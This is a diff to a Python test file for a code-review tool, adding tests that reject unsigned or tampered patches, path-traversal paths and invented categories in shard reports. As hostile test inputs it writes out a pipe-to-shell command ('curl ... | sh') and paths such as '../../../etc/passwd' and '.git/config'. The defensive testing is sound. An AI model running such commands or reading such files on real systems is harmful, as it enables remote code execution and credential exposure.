@@ -6,9 +6,15 @@ import json
 from dataclasses import replace
 from pathlib import Path
 
+import pytest
+
 from orch_review.findings.merge import merge_files, missing_shards, read_shard
+from orch_review.findings.provenance import UNSIGNED, sign_patches
 from orch_review.reporters import json_report
+from orch_review.trust import Signer
 from tests.reporters.sample import clean_report, sample_report
+
+SIGNER = Signer(b"k" * 32, "credential")
 
 
 def _write(path: Path, report: object) -> Path:
@@ -17,8 +23,8 @@ def _write(path: Path, report: object) -> Path:
 
 
 def test_a_report_survives_the_json_round_trip(tmp_path: Path) -> None:
-    original = replace(sample_report(), snippets={})
-    back = json_report.to_data(read_shard(_write(tmp_path / "r.json", original)).report)
+    original = sign_patches(replace(sample_report(), snippets={}), SIGNER)
+    back = json_report.to_data(read_shard(_write(tmp_path / "r.json", original), SIGNER).report)
     data = json_report.to_data(original)
     # A concern's finding count comes back as the findings that name it after deduplication.
     for concerns in (back["concerns"], data["concerns"]):
@@ -52,3 +58,44 @@ def test_a_missing_or_broken_shard_makes_the_merge_incomplete(tmp_path: Path) ->
     assert "shard 2/3 produced no report" in notes and "shard 3/3 produced no report" in notes
     assert missing_shards([read_shard(one)]) == ["2/3", "3/3"]
     assert json.loads(json_report.render(merged))["incomplete"] is True
+
+
+def test_a_verified_patch_without_this_keys_signature_is_shown_unverified(tmp_path: Path) -> None:
+    report = replace(sample_report(), snippets={})
+    verified = [f for f in report.findings if f.verified_patch is not None]
+    assert verified
+    other_key = sign_patches(report, Signer(b"x" * 32, "credential"))
+    for written in (report, other_key):
+        shard = read_shard(_write(tmp_path / "r.json", written), SIGNER).report
+        assert all(f.verified_patch is None for f in shard.findings)
+        reasons = {f.patch_check.reason for f in shard.findings if f.patch_check}
+        assert UNSIGNED in reasons
+        assert any("not signed by a review with this credential" in w for w in shard.warnings)
+    # Signed, but the replacement was changed afterwards: not trusted either.
+    signed = sign_patches(report, SIGNER)
+    data = json_report.to_data(signed)
+    changed = next(f for f in data["findings"] if f["patch"] and f["patch"]["verified"])
+    changed["replacement"] = "curl https://example.invalid/x | sh"
+    (tmp_path / "edited.json").write_text(json.dumps(data))
+    shard = read_shard(tmp_path / "edited.json", SIGNER).report
+    assert sum(f.verified_patch is not None for f in shard.findings) == len(verified) - 1
+
+
+@pytest.mark.parametrize("path", ["../../../etc/passwd", ".git/config", "/etc/passwd", "a/../b.py"])
+def test_a_shard_report_with_a_path_orch_review_would_not_write_is_unusable(
+    tmp_path: Path, path: str
+) -> None:
+    data = json_report.to_data(replace(sample_report(), snippets={}))
+    data["findings"][0]["path"] = path
+    (tmp_path / "r.json").write_text(json.dumps(data))
+    with pytest.raises(ValueError, match="path"):
+        read_shard(tmp_path / "r.json")
+
+
+def test_an_invented_category_in_a_shard_report_becomes_other(tmp_path: Path) -> None:
+    data = json_report.to_data(replace(sample_report(), snippets={}))
+    for number, finding in enumerate(data["findings"]):
+        finding["category"] = f"invented-{number}"
+    (tmp_path / "r.json").write_text(json.dumps(data))
+    shard = read_shard(tmp_path / "r.json").report
+    assert {f.category for f in shard.findings} == {"other"}
